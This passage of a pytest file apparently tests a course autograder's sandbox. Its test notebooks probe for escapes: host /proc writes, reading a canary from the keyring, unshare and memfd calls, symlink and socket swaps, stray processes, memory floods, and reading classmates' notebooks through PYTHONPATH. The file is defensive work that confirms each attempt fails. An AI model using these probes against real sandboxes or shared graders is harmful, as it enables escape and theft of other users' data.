    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(_SYSCALLS["keyctl"], 3, key)  # KEYCTL_REVOKE


def _host_socket(path):
    """A listening Unix socket of the host's, and the list of connections it receives."""
    import socket
    import threading

    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    os.chmod(path, 0o777)
    listener.listen(8)
    dialled = []

    def serve():
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:  # closed: the run is over
                return
            dialled.append(connection)

    threading.Thread(target=serve, daemon=True).start()
    return listener, dialled


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    folder = tmp_path_factory.mktemp("host")
    home = tmp_path_factory.mktemp("host-instructor")
    (home / "home").mkdir()
    (home / "tmp").mkdir()
    canary = home / "canary"
    canary.mkdir(mode=0o700)
    (canary / "file").write_text("the grader's")
    os.chmod(canary / "file", 0o600)
    notebooks = {
        "host_root": learner(before=[HOST_ROOT]),
        "surrogate": learner(before=['raise ValueError("\\udce9 in a message")']),
        "surrogate_function": learner(causal='def causal_mask(size):\n'
                                             '    raise ValueError("\\udce9 in a message")'),
        LATIN_1_NAME.removesuffix(".ipynb"): learner(),
        "deep_exchange": learner(before=[DEEP_EXCHANGE.format(file=str(canary / "file"),
                                                               folder=str(canary))]),
        "right": learner(),
        "strays": learner(before=[STRAYS, STRAYS_LOOKED_AT]),
        "flood": learner(before=[FLOOD]),
        "socket_swap": learner(before=[SOCKET_SWAP.format(canary=str(home / "host.sock"))]),
        "socket_names": learner(before=[PLANT_SOCKET_NAMES.format(canary=str(canary / "file")),
                                        PORTS_SEEN]),
    }
    if _SYSCALLS:
        notebooks["keyring"] = learner(before=[KEYRING.format(name=CANARY_KEY, **_SYSCALLS)])
    for name, nb in notebooks.items():
        write(folder / f"{name}.ipynb", nb)
    key = _session_key(CANARY_KEY, CANARY_SECRET) if _SYSCALLS else None
    listener, dialled = _host_socket(home / "host.sock")
    try:
        done, peak_mb = _run_grader(folder, [f"{n}.ipynb" for n in notebooks],
                                    folder / "grades.csv", home)
    finally:
        listener.close()
        if key:
            _drop_key(key)
    table = []
    if (folder / "grades.csv").exists():
        with open(folder / "grades.csv", newline="", encoding="utf-8") as f:
            table = list(csv.DictReader(f))
    rows = {}
    for row in table:
        rows.setdefault(row["submission"].removesuffix(".ipynb"), {})[row["exercise"]] = row
    return {"done": done, "folder": folder, "home": home, "canary": canary, "rows": rows,
            "table": table, "key": key, "peak_mb": peak_mb, "dialled": dialled}


def test_28_1_the_kernel_is_never_the_hosts_root(host):
    done = host["done"]
    assert done.returncode == 0, done.stderr[-3000:]
    probed = notes(host, "host_root")
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory"):
        assert re.search(f"{path}: (Permission denied|Read-only file system)", probed), probed
    assert passed(host, "host_root") == {"causal_mask": True, "padding_mask": True}


@pytest.mark.skipif(not _SYSCALLS, reason="syscall numbers known for x86_64 and aarch64")
def test_28_2_keyrings_and_new_namespaces_are_refused(host):
    from attncourse.instructor.sandbox import syscall_filter

    if syscall_filter().program is None:
        pytest.skip(f"no syscall filter here: {syscall_filter().detail}")
    assert host["key"], "the test could not put its canary key in the session keyring"
    probed = notes(host, "keyring")
    assert "keyctl: Operation not permitted" in probed, probed
    assert "canary: not read" in probed and "unshare: Operation not permitted" in probed
    assert "memfd: Operation not permitted" in probed and "vsock: Operation not permitted" in probed
    assert CANARY_SECRET not in host["done"].stdout + host["done"].stderr
    assert passed(host, "keyring") == {"causal_mask": True, "padding_mask": True}


def test_28_3_texts_no_utf8_file_holds_and_a_deep_exchange_cost_nothing(host):
    done, folder, canary = host["done"], host["folder"], host["canary"]
    assert done.returncode == 0, done.stderr[-3000:]
    assert not list(folder.glob(".*.tmp"))  # no half-written CSV
    for name in ("surrogate", "caf\\xe9", "deep_exchange", "right"):
        assert passed(host, name) == {"causal_mask": True, "padding_mask": True}, name
    assert "ValueError: " in notes(host, "surrogate")  # Jupyter's messages replace it
    # the results file carries it as JSON's "\\udce9": kept, as an escape
    assert "\\xe9 in a message" in host["rows"]["surrogate_function"]["causal_mask"]["message"]
    # the links were removed, never followed: the grader's files as they were
    assert (canary / "file").read_text() == "the grader's"
    assert stat.S_IMODE(os.stat(canary / "file").st_mode) == 0o600
    assert stat.S_IMODE(os.stat(canary).st_mode) == 0o700
    assert not list((host["home"] / "tmp").iterdir())  # the 1,500 folders are gone too


@pytest.mark.skipif(os.geteuid() != 0, reason="sandbox uids are handed out under root only")
def test_28_5_a_uid_comes_back_only_when_its_last_sandbox_left_no_process(monkeypatch):
    """A sandbox's processes die with it, but not at once; a uid handed out again at once
    would count them against the new sandbox's process limit (a torch import that cannot
    start its threads). The pool ends them first, and hands out the uid given back longest
    ago."""
    import threading

    from attncourse.instructor import sandbox

    first, second = 2000000100, 2000000101  # not the range a concurrent grader would use
    monkeypatch.setenv("ATTNCOURSE_SANDBOX_UIDS", f"{first}-{second}")
    pool = sandbox._UidPool()
    user = pool.acquire()
    assert user.uid == first
    leftover = subprocess.Popen([sys.executable, "-c", (
        f"import os, time; os.setgroups([]); os.setresgid({first}, {first}, {first}); "
        f"os.setresuid({first}, {first}, {first}); time.sleep(600)")])
    threading.Thread(target=leftover.wait, daemon=True).start()  # reaped as bwrap reaps
    try:
        deadline = time.monotonic() + 30
        while sandbox.processes_of(first) != [leftover.pid] and time.monotonic() < deadline:
            time.sleep(0.05)
        assert sandbox.processes_of(first) == [leftover.pid]
        pool.release(user)
        other = pool.acquire()
        assert other.uid == second  # never given back: before the one given back just now
        pool.release(other)
        again = pool.acquire(timeout=30)  # the first, given back longest ago: ended first
        assert again.uid == first
        assert sandbox.processes_of(first) == []
        assert leftover.wait(timeout=10) == -9
        pool.release(again)
    finally:
        with contextlib.suppress(OSError):
            leftover.kill()


def test_28_6_what_a_cell_leaves_running_ends_with_the_cell(host):
    """Busy loops a cell started (a child, and a daemon in a session of its own) would
    keep a core busy beside a classmate's kernel: they end when their cell does."""
    assert "raised RuntimeError: child: ended; daemon: ended; hopper: ended" in \
        notes(host, "strays"), \
        notes(host, "strays")
    assert passed(host, "strays") == {"causal_mask": True, "padding_mask": True}


def test_28_3_remove_tree_follows_no_link_at_any_depth(tmp_path):
    from attncourse.instructor.sandbox import remove_tree

    canary = tmp_path / "canary"
    canary.write_text("keep")
    os.chmod(canary, 0o600)
    tree = tmp_path / "tree"
    tree.mkdir()
    fd = os.open(tree, os.O_RDONLY)
    for _ in range(1500):  # deeper than Python's recursion limit, longer than PATH_MAX
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.symlink(canary, "to-file", dir_fd=fd)
    os.symlink(tmp_path, "to-folder", dir_fd=fd)
    os.chmod(f"/proc/self/fd/{fd}", 0o555)
    os.close(fd)
    (tree / "link-at-top").symlink_to(canary)
    assert remove_tree(tree) is True
    assert not tree.exists() and canary.read_text() == "keep"
    assert stat.S_IMODE(os.stat(canary).st_mode) == 0o600
    assert remove_tree(tree) is True  # gone already: nothing to do, no error


READER = """\
import glob, os
seen = [path for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep) + [{folder!r}]
        for path in glob.glob(os.path.join(entry or ".", "**", "*.ipynb"), recursive=True)]
raise PermissionError(f"{{len(seen)}} notebooks seen: {{seen[:3]}}")"""


def test_28_4_pythonpath_naming_the_class_folder_mounts_none_of_it(tmp_path, monkeypatch):
    home = tmp_path / "instructor"
    (home / "home").mkdir(parents=True)
    (home / "tmp").mkdir()
    folder = tmp_path / "course"
    (folder / "submissions").mkdir(parents=True)
    write(folder / "submissions" / "classmate.ipynb", learner())
    write(folder / "reader.ipynb", learner(before=[READER.format(folder=str(folder))]))
    # the course folder (which holds the package when it is a checkout) and "."
    monkeypatch.setenv("PYTHONPATH", f"{folder}{os.pathsep}.")
    done, _ = _run_grader(folder, ["reader.ipynb", "submissions/classmate.ipynb"],
                          folder / "grades.csv", home)
    assert done.returncode == 0, done.stderr[-3000:]
    assert "PYTHONPATH entry '.' is relative: not mounted in the sandbox" in done.stderr
    assert f"PYTHONPATH entry {folder} holds" in done.stderr
    seen = " | ".join(line for line in done.stdout.splitlines() if "notebooks seen" in line)
    assert "raised PermissionError: 0 notebooks seen" in seen, done.stdout[-2000:]
    with open(folder / "grades.csv", newline="", encoding="utf-8") as f:
        assert all(row["passed"] == "1" for row in csv.DictReader(f))


def test_28_7_a_message_that_never_ends_fills_a_helper_never_the_grader(host):
    """Each submission is graded in a helper process whose memory is capped: a gigabyte of
    unfinished frames lands there, and the grader's own peak stays where it was."""
    done = host["done"]
    assert done.returncode == 0, done.stderr[-3000:]
    assert host["peak_mb"] is not None and host["peak_mb"] < 1024, host["peak_mb"]
    assert passed(host, "right") == {"causal_mask": True, "padding_mask": True}
    assert set(host["rows"]["flood"]) == {"causal_mask", "padding_mask"}


def test_28_8_a_link_in_place_of_the_kernels_socket_is_never_dialled(host):
    """The grader connects once to a socket that exists and never reconnects: a link the
    kernel puts in place of its socket leads nowhere."""
    assert host["done"].returncode == 0, host["done"].stderr[-3000:]
    assert host["dialled"] == []
    assert "did not finish within" in notes(host, "socket_swap"), notes(host, "socket_swap")
    assert passed(host, "right") == {"causal_mask": True, "padding_mask": True}


def test_28_9_a_restarted_kernel_gets_a_fresh_exchange_folder(host):
    """Links a crashed kernel left where the next kernel's sockets will be named never make
    the grader look at a host path: the exchange folder is emptied before every restart."""
    probed = notes(host, "socket_names")
    found = re.search(r"ports ([\d ]+)", probed)
    assert found, probed
    assert max(map(int, found.group(1).split())) <= 5, probed  # 12 and up: links were probed
    assert passed(host, "socket_names") == {"causal_mask": True, "padding_mask": True}
